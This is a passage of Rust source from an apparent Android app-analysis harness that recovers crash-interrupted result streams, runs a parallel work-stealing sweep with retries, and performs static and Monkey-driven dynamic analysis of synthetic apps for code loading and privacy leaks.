                    for record in &missing {
                        w.append_body(&canonical_event(&record.package, "checkpoint"))?;
                        if self.config.provenance {
                            w.append_body(&canonical_event(&record.package, "provenance"))?;
                        }
                    }
                    Ok(())
                });
                if let Err(e) = append {
                    eprintln!(
                        "dydroid: failed to merge shard checkpoints into {}: {e}",
                        events_path.display()
                    );
                }
            }
        }
        if !shard_ids.is_empty() {
            journal.remove_shards()?;
        }

        // Quarantine bookkeeping: every cross-stream-inconsistent app
        // burned one interrupted attempt; apps that completed since then
        // shed their entries.
        let mut quarantine = journal.load_quarantine()?;
        for package in &inconsistent {
            match quarantine.iter_mut().find(|e| &e.package == package) {
                Some(entry) => entry.attempts = entry.attempts.saturating_add(1),
                None => quarantine.push(QuarantineEntry {
                    package: package.clone(),
                    attempts: 1,
                }),
            }
        }
        quarantine.retain(|e| !seen.contains(e.package.as_str()));
        drop(seen);
        journal.write_quarantine(&quarantine)?;
        let quarantined: Vec<String> = quarantine
            .iter()
            .filter(|e| e.attempts >= self.config.quarantine_threshold)
            .map(|e| e.package.clone())
            .collect();

        Ok(RecoveryOutcome {
            records: consistent,
            provenance,
            journal_dropped,
            ledger_dropped,
            events_dropped,
            inconsistent: inconsistent.into_iter().collect(),
            quarantine,
            quarantined,
        })
    }

    /// Reconciles one segment — a (journal, ledger, events) triplet,
    /// either the base streams or one shard's — to its longest mutually
    /// consistent prefix. Pure read: rewrites happen at the merge layer.
    fn recover_segment(
        &self,
        journal: &crate::sweep::Journal,
        ledger: Option<&ProvenanceLedger>,
        events_path: &Path,
    ) -> std::io::Result<SegmentRecovery> {
        let recovery = journal.recover_counted()?;
        warn_recovered(
            "journal",
            journal.path(),
            recovery.records.len(),
            recovery.dropped_lines,
        );
        let journal_dropped = recovery.dropped_lines;
        let journal_count = recovery.records.len();

        let mut ledger_records: Vec<AppProvenance> = Vec::new();
        let mut ledger_dropped = 0usize;
        let mut ledger_active = false;
        if let Some(ledger) = ledger {
            match ledger.recover_counted() {
                Ok(r) => {
                    warn_recovered("ledger", ledger.path(), r.records.len(), r.dropped_lines);
                    ledger_dropped = r.dropped_lines;
                    ledger_records = r.records;
                    ledger_active = true;
                }
                Err(e) => eprintln!(
                    "dydroid: failed to recover ledger {}: {e}",
                    ledger.path().display()
                ),
            }
        }

        // The event stream constrains recovery only when telemetry is
        // enabled and a stream exists: each `checkpoint` event mirrors a
        // successful journal append, so a journal record without one
        // belongs to the torn tail of the killed session.
        let mut events_dropped = 0usize;
        let mut checkpoints: Option<HashSet<String>> = None;
        if self.telemetry.is_enabled() {
            match scan_path(events_path) {
                Ok(Some(scan)) => {
                    warn_recovered("events", events_path, scan.bodies.len(), scan.dropped);
                    events_dropped = scan.dropped;
                    let mut set = HashSet::new();
                    for body in &scan.bodies {
                        let Ok(value) = serde_json::from_str::<serde::Value>(body) else {
                            continue;
                        };
                        if value.get("type").and_then(|t| t.as_str()) == Some("checkpoint") {
                            if let Some(app) = value.get("app").and_then(|a| a.as_str()) {
                                set.insert(app.to_string());
                            }
                        }
                    }
                    checkpoints = Some(set);
                }
                Ok(None) => {}
                Err(e) => eprintln!(
                    "dydroid: failed to scan events {}: {e}",
                    events_path.display()
                ),
            }
        }

        let ledgered: HashSet<&str> = ledger_records.iter().map(|p| p.package.as_str()).collect();
        let mut inconsistent: BTreeSet<String> = BTreeSet::new();
        let mut records: Vec<AppRecord> = Vec::new();
        for record in recovery.records {
            let in_ledger = !ledger_active || ledgered.contains(record.package.as_str());
            let in_events = checkpoints
                .as_ref()
                .is_none_or(|c| c.contains(record.package.as_str()));
            if in_ledger && in_events {
                records.push(record);
            } else {
                inconsistent.insert(record.package.clone());
            }
        }
        drop(ledgered);
        let consistent_set: HashSet<&str> = records.iter().map(|r| r.package.as_str()).collect();
        for p in ledger_records
            .iter()
            .map(|p| p.package.as_str())
            .chain(checkpoints.iter().flatten().map(String::as_str))
        {
            if !consistent_set.contains(p) {
                inconsistent.insert(p.to_string());
            }
        }
        let provenance: Vec<AppProvenance> = ledger_records
            .into_iter()
            .filter(|p| consistent_set.contains(p.package.as_str()))
            .collect();
        drop(consistent_set);

        Ok(SegmentRecovery {
            records,
            provenance,
            journal_dropped,
            ledger_dropped,
            events_dropped,
            inconsistent,
            journal_count,
            checkpoints,
        })
    }

    /// The parallel worker loop. Every worker owns a two-lane deque in
    /// the work-stealing [`Scheduler`] (new work ahead of recovery
    /// re-scans) and analyses each app inside a panic-isolation
    /// boundary. With `shards` attached, the worker itself appends the
    /// finished record to its app's stream shard — no collector
    /// bottleneck; otherwise the collector owns the single-writer
    /// journal/ledger appends as before. Results flow through a bounded
    /// channel so a slow collector backpressures workers instead of
    /// buffering the whole corpus in memory.
    #[allow(clippy::too_many_arguments)]
    fn sweep(
        &self,
        corpus: &[SyntheticApp],
        indices: &[usize],
        journal: Option<&Mutex<crate::sweep::JournalWriter>>,
        ledger: Option<&Mutex<crate::provenance::LedgerWriter>>,
        shards: Option<&StreamShards>,
        retry: &HashSet<String>,
        observatory: Option<&Observatory>,
        parent_span: u64,
    ) -> (Vec<SweepItem>, Vec<WorkerStats>) {
        let workers = self.config.effective_workers().min(indices.len().max(1));
        let scheduler = Scheduler::new(workers);
        for (pos, &i) in indices.iter().enumerate() {
            let lane = if self.config.priority_lanes && retry.contains(corpus[i].package()) {
                Lane::Retry
            } else {
                Lane::New
            };
            scheduler.seed(pos % workers, i, lane);
        }
        if self.telemetry.is_enabled() {
            // Baseline gauges for the --progress line, the metrics
            // snapshots, and `dcltrace top`.
            self.telemetry.gauge_set("sweep.workers", workers as u64);
            self.telemetry
                .gauge_set("sweep.total_apps", indices.len() as u64);
            self.telemetry.gauge_set("sweep.done", 0);
        }
        let (result_tx, result_rx) =
            channel::bounded::<(usize, AppRecord, Option<AppProvenance>, u64, u64)>(4 * workers);
        let progress =
            (self.config.progress && !indices.is_empty()).then(|| Progress::new(indices.len()));

        // Collected outside the scope so partial results survive even a
        // worker-thread panic that escapes the per-app isolation.
        let collected: Mutex<Vec<SweepItem>> = Mutex::new(Vec::new());
        let scope_result = crossbeam::thread::scope(|scope| {
            for worker in 0..workers {
                let result_tx = result_tx.clone();
                let scheduler = &scheduler;
                scope.spawn(move |_| {
                    while let Some(i) = scheduler.next_task(worker) {
                        let app = &corpus[i];
                        // Scope this thread's event lines (spans, then the
                        // checkpoint/provenance links of the shard append)
                        // to the app's shard for the whole task.
                        let shard = shards.map(|s| s.shard_of(app));
                        let _scope = shard.map(|k| self.telemetry.event_shard_scope(Some(k)));
                        let started = Instant::now();
                        let (record, provenance, span_id, virtual_us) =
                            self.analyze_app_traced(app, parent_span);
                        if let (Some(shards), Some(k)) = (shards, shard) {
                            shards.append(
                                k,
                                &record,
                                provenance.as_ref(),
                                span_id,
                                &self.telemetry,
                            );
                        }
                        scheduler.note_executed(
                            worker,
                            started.elapsed().as_micros() as u64,
                            virtual_us,
                        );
                        if result_tx
                            .send((i, record, provenance, span_id, virtual_us))
                            .is_err()
                        {
                            // Receiver gone: the sweep is shutting down.
                            break;
                        }
                    }
                });
            }
            drop(result_tx);
            let mut collected_count = 0u64;
            while let Ok((i, record, provenance, span_id, virtual_us)) = result_rx.recv() {
                if let Some(writer) = journal {
                    let append = writer
                        .lock()
                        .map_err(|p| std::io::Error::other(p.to_string()))
                        .and_then(|mut w| w.append(&record));
                    match append {
                        // A checkpoint in the event stream mirrors every
                        // successful journal append, so a resumed run can
                        // stitch records back to their spans.
                        Ok(()) => self.telemetry.emit_checkpoint(&record.package, span_id),
                        Err(e) => {
                            eprintln!("dydroid: journal append failed for {}: {e}", record.package);
                        }
                    }
                }
                if let (Some(writer), Some(provenance)) = (ledger, &provenance) {
                    let append = writer
                        .lock()
                        .map_err(|p| std::io::Error::other(p.to_string()))
                        .and_then(|mut w| w.append(provenance));
                    match append {
                        // The provenance-link line is the durable span
                        // cross-reference the ledger itself omits.
                        Ok(()) => self
                            .telemetry
                            .emit_provenance_link(&record.package, span_id),
                        Err(e) => {
                            eprintln!("dydroid: ledger append failed for {}: {e}", record.package);
                        }
                    }
                }
                if self.telemetry.is_enabled() {
                    // Observatory bookkeeping, all on the collector
                    // thread: worker/utilization gauges from the live
                    // scheduler counters, then the watchdog and metrics
                    // snapshot hooks.
                    collected_count += 1;
                    let stats = scheduler.worker_stats();
                    self.telemetry
                        .gauge_set("sweep.busy_us", stats.iter().map(|w| w.busy_us).sum());
                    self.telemetry
                        .gauge_set("sweep.virtual_makespan_us", virtual_makespan_us(&stats));
                    self.telemetry.gauge_set("sweep.done", collected_count);
                    if let Some(obs) = observatory {
                        obs.on_app_done(self, &record.package, span_id, virtual_us);
                    }
                }
                if let Some(progress) = &progress {
                    let failed = record.harness_failure().is_some();
                    if let Some(line) = progress.on_app_done(failed, &self.telemetry) {
                        eprintln!("dydroid: {line}");
                    }
                }
                if let Ok(mut records) = collected.lock() {
                    records.push((i, record, provenance));
                }
            }
        });
        if scope_result.is_err() {
            eprintln!("dydroid: a sweep thread panicked outside per-app isolation; continuing with partial results");
        }
        (
            collected.into_inner().unwrap_or_default(),
            scheduler.worker_stats(),
        )
    }

    /// Merges sweep results (and any journaled records) into a complete,
    /// corpus-ordered report; apps lost to a non-isolated thread death
    /// are recorded as harness failures rather than dropped. When a
    /// ledger is in play it is finalized here: rewritten in corpus order
    /// with environment outcomes attached, so a completed run's ledger
    /// is byte-identical however the sweep interleaved (and across
    /// resume-from-checkpoint runs).
    #[allow(clippy::too_many_arguments)]
    fn assemble(
        &self,
        corpus: &[SyntheticApp],
        results: Vec<SweepItem>,
        mut done: HashMap<String, AppRecord>,
        prior_provenance: Vec<AppProvenance>,
        ledger: Option<&ProvenanceLedger>,
        journal: Option<&crate::sweep::Journal>,
        io_state: &Arc<IoState>,
        recovery: Option<RecoverySummary>,
        perf: SweepPerf,
        observatory: Option<Observatory>,
        sweep_ms: u64,
        cache_mark: CacheStats,
        detector_mark: dydroid_analysis::DetectorStats,
        avm_marks: AvmMarks,
    ) -> MeasurementReport {
        // Live-built graphs win over recovered ledger lines; recovered
        // lines cover the resumed apps this session never re-ran.
        let mut provenance: HashMap<String, AppProvenance> = prior_provenance
            .into_iter()
            .map(|p| (p.package.clone(), p))
            .collect();
        for (i, record, prov) in results {
            if let Some(app) = corpus.get(i) {
                done.insert(app.package().to_string(), record);
                if let Some(prov) = prov {
                    provenance.insert(app.package().to_string(), prov);
                }
            }
        }
        let records: Vec<AppRecord> = corpus
            .iter()
            .map(|app| {
                done.remove(app.package()).unwrap_or_else(|| {
                    self.failure_record(app, "record lost: sweep worker died".to_string())
                })
            })
            .collect();
        let env_start = Instant::now();
        let env = if self.config.environment_reruns {
            let mut env_span = self.telemetry.span("environment");
            let env = crate::environment::rerun_all(self, corpus, &records);
            env_span.field("flagged_files", env.counts.total_files);
            env
        } else {
            crate::environment::EnvOutcome::default()
        };
        // Finalize the ledger: one record per corpus app, corpus order,
        // env outcomes attached. Apps whose live graph is gone (resumed
        // with a torn ledger line) get a degraded reconstruction.
        let mut finalized = true;
        if self.config.provenance {
            let final_provenance: Vec<AppProvenance> = corpus
                .iter()
                .zip(&records)
                .map(|(app, record)| {
                    let mut p = provenance
                        .remove(app.package())
                        .unwrap_or_else(|| AppProvenance::from_record(record));
                    p.env_loads = env
                        .loads
                        .iter()
                        .filter(|l| l.package == record.package)
                        .map(|l| crate::provenance::EnvLoadOutcome {
                            path: l.path.clone(),
                            configs: l.configs.clone(),
                        })
                        .collect();
                    p
                })
                .collect();
            if let Some(ledger) = ledger {
                if let Err(e) = ledger.finalize_with(&final_provenance, self.io_harness.as_ref()) {
                    finalized = false;
                    eprintln!(
                        "dydroid: failed to finalize ledger {}: {e}",
                        ledger.path().display()
                    );
                }
            }
        }
        // Finalize the journal and the event stream the same way the
        // ledger is finalized: atomically rewritten in corpus order, so
        // a completed run's three streams are byte-identical however the
        // sweep interleaved and however many resumes it took. The
        // canonical event stream keeps only the per-app checkpoint and
        // provenance-link facts; live span timings are interleave-
        // dependent and are dropped.
        if let Some(journal) = journal {
            if let Err(e) = journal.finalize_with(&records, self.io_harness.as_ref()) {
                finalized = false;
                eprintln!(
                    "dydroid: failed to finalize journal {}: {e}",
                    journal.path().display()
                );
            }
            if self.telemetry.is_enabled() {
                let mut bodies = Vec::with_capacity(records.len() * 2);
                for record in &records {
                    bodies.push(canonical_event(&record.package, "checkpoint"));
                    if self.config.provenance {
                        bodies.push(canonical_event(&record.package, "provenance"));
                    }
                }
                let events_path = journal.events_path();
                if let Err(e) = self.telemetry.finalize_event_sink(
                    &events_path,
                    &bodies,
                    self.io_harness.as_ref(),
                ) {
                    finalized = false;
                    eprintln!(
                        "dydroid: failed to finalize events {}: {e}",
                        events_path.display()
                    );
                }
            }
            // A sharded sweep's per-shard files are fully folded into
            // the canonical streams above; drop them so the layout a
            // completed run leaves behind is identical to a serial one.
            // Only once every stream actually finalized: a failed
            // finalize — or a crash-frozen harness, whose post-crash
            // writes report success without touching disk — must leave
            // the shard files for the next session's recovery to merge.
            if self.io_harness.as_ref().is_some_and(|h| h.crashed()) {
                finalized = false;
            }
            if finalized {
                if let Err(e) = journal.remove_shards() {
                    eprintln!(
                        "dydroid: failed to remove shard files beside {}: {e}",
                        journal.path().display()
                    );
                }
            }
        }
        // Observatory wrap-up: idle-worker warnings, then the straggler
        // appendix — per-phase breakdowns filled from the flagged apps'
        // child spans in one pass over the span store.
        let (straggler_warnings, stragglers) = match &observatory {
            Some(obs) => {
                let idle = idle_workers(&perf.worker_stats);
                if idle > 0 {
                    self.telemetry
                        .counter_add("watchdog.idle_workers", idle as u64);
                    self.telemetry
                        .emit_warning("idle_workers", "", &[("workers", idle as u64)]);
                }
                let (flagged, mut entries) = obs.take_stragglers();
                entries.sort_by(|a, b| {
                    b.0.virtual_us
                        .cmp(&a.0.virtual_us)
                        .then_with(|| a.0.package.cmp(&b.0.package))
                });
                entries.truncate(self.config.straggler_top);
                let wanted: HashSet<u64> = entries.iter().map(|(_, id)| *id).collect();
                let mut children: HashMap<u64, Vec<(String, u64)>> = HashMap::new();
                if !wanted.is_empty() {
                    for span in self.telemetry.spans() {
                        if wanted.contains(&span.parent) {
                            children
                                .entry(span.parent)
                                .or_default()
                                .push((span.name, span.dur_us));
                        }
                    }
                }
                let entries: Vec<StragglerEntry> = entries
                    .into_iter()
                    .map(|(mut entry, id)| {
                        let mut phases = children.remove(&id).unwrap_or_default();
                        phases.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
                        entry.phases = phases;
                        entry
                    })
                    .collect();
                (flagged, entries)
            }
            None => (0, Vec::new()),
        };
        let snapshot = self.telemetry.snapshot();
        let app_wall = snapshot
            .histogram("span.app.us")
            .copied()
            .unwrap_or_default();
        let phases: Vec<(String, HistogramSummary)> = snapshot
            .histograms
            .iter()
            .filter(|(name, _)| name != "span.app.us")
            .cloned()
            .collect();
        let io = io_state.snapshot();
        let recovery = recovery.unwrap_or_default();
        let stats = SweepStats {
            sweep_ms,
            env_ms: env_start.elapsed().as_millis() as u64,
            analyzed_apps: records.len(),
            cache: self.cache.stats().since(&cache_mark),
            detector: self.detector.stats().since(&detector_mark),
            workers: self.config.effective_workers(),
            dropped_events: self
                .telemetry
                .counter_value("avm.events_dropped")
                .saturating_sub(avm_marks.events_dropped),
            flow_truncated: self
                .telemetry
                .counter_value("avm.flow_edges_truncated")
                .saturating_sub(avm_marks.flow_truncated),
            flow_deduped: self
                .telemetry
                .counter_value("avm.flow_edges_deduped")
                .saturating_sub(avm_marks.flow_deduped),
            ic_call_hits: self
                .telemetry
                .counter_value("avm.ic_call_hits")
                .saturating_sub(avm_marks.ic_call_hits),
            ic_call_misses: self
                .telemetry
                .counter_value("avm.ic_call_misses")
                .saturating_sub(avm_marks.ic_call_misses),
            ic_field_hits: self
                .telemetry
                .counter_value("avm.ic_field_hits")
                .saturating_sub(avm_marks.ic_field_hits),
            ic_field_misses: self
                .telemetry
                .counter_value("avm.ic_field_misses")
                .saturating_sub(avm_marks.ic_field_misses),
            journal_syncs: io.syncs[StreamKind::Journal.index()],
            io_retries: io.retries,
            io_backoff_us: io.backoff_us,
            shed_events: io.shed[StreamKind::Events.index()],
            shed_provenance: io.shed[StreamKind::Ledger.index()],
            shed_metrics: io.shed[StreamKind::Metrics.index()],
            recovered_records: recovery.recovered,
            recovery_dropped: recovery.dropped,
            inconsistent_apps: recovery.inconsistent,
            quarantined: recovery.quarantined,
            stream_shards: perf.stream_shards,
            shard_contention: perf.shard_contention,
            worker_stats: perf.worker_stats,
            straggler_warnings,
            stragglers,
            app_wall,
            phases,
        };
        let mut report = MeasurementReport::new(records, env.counts);
        report.set_env_loads(env.loads);
        report.set_stats(stats);
        if let Some(path) = &self.config.trace_out {
            if let Err(e) = self.telemetry.write_chrome_trace(Path::new(path)) {
                eprintln!("dydroid: failed to write chrome trace to {path}: {e}");
            }
        }
        // Span profile exports: the configured `profile_out`, plus a
        // `<journal>.profile.folded` artifact beside every journaled
        // telemetry run — the canonical event stream drops span lines at
        // finalize, so this artifact is what `dcltrace profile` falls
        // back to once a run completes.
        if self.telemetry.is_enabled() && (self.config.profile_out.is_some() || journal.is_some()) {
            let folded = SpanProfile::from_spans(&self.telemetry.spans()).folded();
            if let Some(path) = &self.config.profile_out {
                if let Err(e) = std::fs::write(path, &folded) {
                    eprintln!("dydroid: failed to write span profile to {path}: {e}");
                }
            }
            if let Some(journal) = journal {
                let path = journal.profile_path();
                if let Err(e) = std::fs::write(&path, &folded) {
                    eprintln!(
                        "dydroid: failed to write span profile to {}: {e}",
                        path.display()
                    );
                }
            }
        }
        report
    }

    /// Analyses one app inside the fault-isolation boundary: panics are
    /// caught, harness failures are retried up to `max_retries` times
    /// (reseeding the Monkey when `retry_reseed` is set), and the final
    /// failure is recorded as [`DynamicStatus::AnalysisFailure`].
    pub fn analyze_app_resilient(&self, app: &SyntheticApp) -> AppRecord {
        self.analyze_app_traced(app, 0).0
    }

    /// [`Pipeline::analyze_app_resilient`] under a per-app telemetry span
    /// (parented to the sweep span); returns the record and provenance
    /// graph together with the span id (so the sweep collector can
    /// checkpoint and ledger them) and the app's deterministic virtual
    /// cost in microseconds, summed across attempts, which the scheduler
    /// charges to the worker that ran it.
    fn analyze_app_traced(
        &self,
        app: &SyntheticApp,
        parent_span: u64,
    ) -> (AppRecord, Option<AppProvenance>, u64, u64) {
        let mut span = self.telemetry.span_with_parent("app", parent_span);
        span.field("app", &app.plan.package);
        let span_id = span.id();
        let attempts = self.config.max_retries.saturating_add(1);
        let mut last: Option<AppRecord> = None;
        let mut total_virtual_us = 0u64;
        // The static phases are input-deterministic, so a multi-attempt
        // failure spiral decompiles the app once, not once per attempt.
        let mut statics: Option<StaticPhases> = None;
        for attempt in 0..attempts {
            if attempt > 0 && self.telemetry.is_enabled() {
                self.telemetry.counter_add("sweep.retries", 1);
            }
            let salt = if attempt == 0 || !self.config.retry_reseed {
                0
            } else {
                RETRY_SEED_SALT.wrapping_mul(u64::from(attempt))
            };
            match catch_unwind(AssertUnwindSafe(|| {
                self.analyze_app_salted(app, salt, span_id)
            })) {
                Ok((record, provenance, virtual_us)) => {
                    total_virtual_us += virtual_us;
                    if record.harness_failure().is_none() {
                        span.field("attempt", attempt + 1);
                        span.field("verdict", verdict_label(&record));
                        // Apps that never reached the dynamic phase carry
                        // no live device state; they still get a ledger
                        // entry, reconstructed from the record, so the
                        // ledger's app set always matches the journal's.
                        let provenance = self.config.provenance.then(|| {
                            let mut p =
                                provenance.unwrap_or_else(|| AppProvenance::from_record(&record));
                            p.span = span_id;
                            p
                        });
                        return (record, provenance, span_id, total_virtual_us);
                    }
                    last = Some(record);
                }
                Err(payload) => {
                    let reason = format!(
                        "panic in attempt {}/{}: {}",
                        attempt + 1,
                        attempts,
                        panic_message(payload.as_ref())
                    );
                    let statics = *statics.get_or_insert_with(|| Self::static_phases(app));
                    last = Some(Self::record_from_statics(app, reason, statics));
                }
            }
        }
        let record =
            last.unwrap_or_else(|| self.failure_record(app, "no analysis attempt ran".to_string()));
        span.field("attempt", attempts);
        span.field("verdict", verdict_label(&record));
        // Harness failures carry no live device state; the ledger gets a
        // degraded record reconstructed from the app record at finalize.
        let provenance = self.config.provenance.then(|| {
            let mut p = AppProvenance::from_record(&record);
            p.span = span_id;
            p
        });
        (record, provenance, span_id, total_virtual_us)
    }

    /// Re-runs the cheap static phases under their own panic guard, so a
    /// failed app still lands in the right Table II population.
    fn static_phases(app: &SyntheticApp) -> StaticPhases {
        let static_phases =
            catch_unwind(AssertUnwindSafe(|| match decompiler::decompile(&app.apk) {
                Ok(d) => (true, DclFilter::scan(&d.classes), obfuscation::analyze(&d)),
                Err(DecompileError::AntiDecompilation { .. }) => (
                    false,
                    DclFilter::default(),
                    ObfuscationReport::anti_decompilation_only(),
                ),
                Err(_) => (false, DclFilter::default(), ObfuscationReport::default()),
            }));
        static_phases.unwrap_or((false, DclFilter::default(), ObfuscationReport::default()))
    }

    /// Builds the record for an app whose dynamic analysis was lost to a
    /// panic or deadline.
    fn failure_record(&self, app: &SyntheticApp, reason: String) -> AppRecord {
        Self::record_from_statics(app, reason, Self::static_phases(app))
    }

    fn record_from_statics(
        app: &SyntheticApp,
        reason: String,
        (decompiled, filter, obfuscation): StaticPhases,
    ) -> AppRecord {
        AppRecord {
            package: app.plan.package.clone(),
            metadata: app.plan.metadata.clone(),
            decompiled,
            filter,
            obfuscation,
            rewritten: false,
            dynamic: Some(DynamicOutcome::failure(reason)),
        }
    }

    /// Analyses a standalone APK (e.g. a file from disk) with optional
    /// environment fixtures; the package is taken from the manifest.
    ///
    /// # Errors
    ///
    /// Returns the parse error when the archive or its manifest is
    /// malformed beyond even the anti-decompilation failure modes.
    pub fn analyze_apk(
        &self,
        apk: Vec<u8>,
        remote_resources: Vec<(String, String, Vec<u8>)>,
        device_files: Vec<(String, String, Vec<u8>)>,
    ) -> Result<AppRecord, dydroid_dex::ApkError> {
        let package = dydroid_dex::Apk::parse(&apk)?.manifest()?.package;
        let app = SyntheticApp {
            plan: dydroid_workload::AppPlan::external(package),
            apk,
            remote_resources,
            device_files,
        };
        Ok(self.analyze_app(&app))
    }

    /// Analyses a single app end to end (no panic isolation or retries;
    /// see [`Pipeline::analyze_app_resilient`] for the sweep wrapper).
    pub fn analyze_app(&self, app: &SyntheticApp) -> AppRecord {
        self.analyze_app_with_provenance(app).0
    }

    /// [`Pipeline::analyze_app`], also returning the provenance flight
    /// record (`None` when `PipelineConfig::provenance` is off or the
    /// dynamic phase never ran).
    pub fn analyze_app_with_provenance(
        &self,
        app: &SyntheticApp,
    ) -> (AppRecord, Option<AppProvenance>) {
        let mut span = self.telemetry.span("app");
        span.field("app", &app.plan.package);
        let (record, mut provenance, _) = self.analyze_app_salted(app, 0, span.id());
        span.field("verdict", verdict_label(&record));
        if let Some(p) = &mut provenance {
            p.span = span.id();
        }
        (record, provenance)
    }

    /// [`Pipeline::analyze_app`] with a Monkey seed salt (non-zero on
    /// reseeded retries) and a parent span for the phase children. Also
    /// returns the app's provenance graph when the dynamic phase ran and
    /// `PipelineConfig::provenance` is on (the graph is built from live
    /// device state — flow graph, event log — that the record drops).
    fn analyze_app_salted(
        &self,
        app: &SyntheticApp,
        seed_salt: u64,
        parent_span: u64,
    ) -> (AppRecord, Option<AppProvenance>, u64) {
        let metadata = app.plan.metadata.clone();
        let package = app.plan.package.clone();

        // Phase 1+2: decompile, static filter, obfuscation analysis —
        // one "static" span; its early returns drop the guard on exit.
        let static_span = self.telemetry.span_with_parent("static", parent_span);

        let decompiled = match decompiler::decompile(&app.apk) {
            Ok(d) => d,
            Err(DecompileError::AntiDecompilation { .. }) => {
                return (
                    AppRecord {
                        package,
                        metadata,
                        decompiled: false,
                        filter: DclFilter::default(),
                        obfuscation: ObfuscationReport::anti_decompilation_only(),
                        rewritten: false,
                        dynamic: None,
                    },
                    None,
                    0,
                );
            }
            Err(_) => {
                return (
                    AppRecord {
                        package,
                        metadata,
                        decompiled: false,
                        filter: DclFilter::default(),
                        obfuscation: ObfuscationReport::default(),
                        rewritten: false,
                        dynamic: None,
                    },
                    None,
                    0,
                );
            }
        };

        // Resource-sanity guard: a manifest blown up far past anything a
        // store-distributed app declares would stall the rewriter and the
        // Monkey's callback enumeration. Reject it as a harness-level
        // failure instead of burning the deadline on it.
        let manifest_entries =
            decompiled.manifest.permissions.len() + decompiled.manifest.components.len();
        if manifest_entries > MANIFEST_SANITY_LIMIT {
            return (
                AppRecord {
                    package,
                    metadata,
                    decompiled: true,
                    filter: DclFilter::default(),
                    obfuscation: ObfuscationReport::default(),
                    rewritten: false,
                    dynamic: Some(DynamicOutcome::failure(format!(
                        "manifest exceeds sanity bounds: {manifest_entries} entries > {MANIFEST_SANITY_LIMIT}"
                    ))),
                },
                None,
                0,
            );
        }

        // Phase 2: static filter + obfuscation analysis.
        let filter = DclFilter::scan(&decompiled.classes);
        let obfuscation = obfuscation::analyze(&decompiled);
        drop(static_span);
        if !filter.any() {
            return (
                AppRecord {
                    package,
                    metadata,
                    decompiled: true,
                    filter,
                    obfuscation,
                    rewritten: false,
                    dynamic: None,
                },
                None,
                0,
            );
        }

        // Phase 3: rewrite if needed. Apps that already hold the
        // permission install their original bytes — borrowed, not
        // cloned: a full-APK copy per app is pure overhead at corpus
        // scale.
        let (install_bytes, rewritten): (Cow<[u8]>, bool) =
            if decompiler::needs_rewriting(&decompiled.manifest) {
                let _span = self.telemetry.span_with_parent("rewrite", parent_span);
                match decompiler::repackage_with_permission(&decompiled) {
                    Ok(bytes) => (Cow::Owned(bytes), true),
                    Err(_) => {
                        return (
                            AppRecord {
                                package,
                                metadata,
                                decompiled: true,
                                filter,
                                obfuscation,
                                rewritten: false,
                                dynamic: Some(DynamicOutcome::empty(DynamicStatus::RewriteFailure)),
                            },
                            None,
                            0,
                        );
                    }
                }
            } else {
                (Cow::Borrowed(app.apk.as_slice()), false)
            };

        // Phase 4: dynamic analysis.
        let mut device = self.prepare_device(app, self.config.device_config());
        let (dynamic, path_leaks, virtual_us) = self.exercise_and_analyze_salted(
            app,
            &mut device,
            &install_bytes,
            &decompiled,
            seed_salt,
            parent_span,
        );
        // Per-app instrumentation-bound counters (the env re-runs bypass
        // this path, so these count the baseline sweep only).
        if self.telemetry.is_enabled() {
            self.telemetry
                .counter_add("avm.events_dropped", device.log.dropped_events());
            self.telemetry.counter_add(
                "avm.flow_edges_truncated",
                device.hooks.flow.truncated_edges(),
            );
            self.telemetry.counter_add(
                "avm.flow_edges_deduped",
                device.hooks.flow.duplicate_edges(),
            );
        }
        // The flight recorder fuses the device state the record is about
        // to drop (flow graph, raw event log) with the outcome.
        let provenance = self.config.provenance.then(|| {
            AppProvenance::build(
                &package,
                status_label(&dynamic.status),
                &device.log,
                &device.hooks.flow,
                &dynamic.dex_events,
                &dynamic.native_events,
                &dynamic.malware,
                &path_leaks,
            )
        });

        (
            AppRecord {
                package,
                metadata,
                decompiled: true,
                filter,
                obfuscation,
                rewritten,
                dynamic: Some(dynamic),
            },
            provenance,
            virtual_us,
        )
    }

    /// Builds a device with the app's environment fixtures in place. The
    /// interpreter selection always follows the pipeline's
    /// `legacy_interp` knob, whatever environment configuration the
    /// caller passes (the Table VIII re-runs vary device state, not the
    /// execution engine).
    pub fn prepare_device(
        &self,
        app: &SyntheticApp,
        mut config: dydroid_avm::DeviceConfig,
    ) -> Device {
        config.legacy_interp = self.config.legacy_interp;
        let mut device = Device::new(config);
        device.hooks.suppress_file_ops = self.config.suppress_file_ops;
        device.log.set_capacity(self.config.max_events_per_app);
        for (domain, path, bytes) in &app.remote_resources {
            device.net.host(domain, path, bytes.clone());
        }
        for (path, owner, bytes) in &app.device_files {
            device
                .fs
                .write_system(path, bytes.clone(), Owner::app(owner.clone()));
        }
        device
    }

    /// Installs, exercises and post-processes one app on a prepared
    /// device. Also used by the environment re-runs.
    pub fn exercise_and_analyze(
        &self,
        app: &SyntheticApp,
        device: &mut Device,
        install_bytes: &[u8],
        decompiled: &decompiler::DecompiledApp,
    ) -> DynamicOutcome {
        self.exercise_and_analyze_salted(app, device, install_bytes, decompiled, 0, 0)
            .0
    }

    /// [`Pipeline::exercise_and_analyze`] under a caller-supplied parent
    /// span (the environment re-runs parent their per-configuration
    /// spans here).
    pub(crate) fn exercise_and_analyze_traced(
        &self,
        app: &SyntheticApp,
        device: &mut Device,
        install_bytes: &[u8],
        decompiled: &decompiler::DecompiledApp,
        parent_span: u64,
    ) -> DynamicOutcome {
        self.exercise_and_analyze_salted(app, device, install_bytes, decompiled, 0, parent_span)
            .0
    }

    /// [`Pipeline::exercise_and_analyze`] with a Monkey seed salt. Also
    /// returns per-path privacy-leak attribution `(loaded path, privacy
    /// type label)` — the verdict edges of the provenance graph, which
    /// the aggregate [`DynamicOutcome`] no longer resolves to paths —
    /// and the app's deterministic virtual cost in microseconds (from
    /// instructions retired), which the scheduler charges to its worker.
    fn exercise_and_analyze_salted(
        &self,
        app: &SyntheticApp,
        device: &mut Device,
        install_bytes: &[u8],
        decompiled: &decompiler::DecompiledApp,
        seed_salt: u64,
        parent_span: u64,
    ) -> (DynamicOutcome, Vec<(String, String)>, u64) {
        let package = &app.plan.package;

        {
            let mut install_span = self.telemetry.span_with_parent("install", parent_span);
            install_span.field("bytes", install_bytes.len());
            if device.install(install_bytes).is_err() {
                install_span.field("result", "error");
                return (
                    DynamicOutcome::empty(DynamicStatus::RewriteFailure),
                    Vec::new(),
                    0,
                );
            }
        }

        let mut monkey = Monkey::new(MonkeyConfig {
            seed: self.config.monkey_seed ^ hash_pkg(package) ^ seed_salt,
            event_budget: self.config.monkey_events,
            deadline_ms: self.config.deadline_ms(),
        });
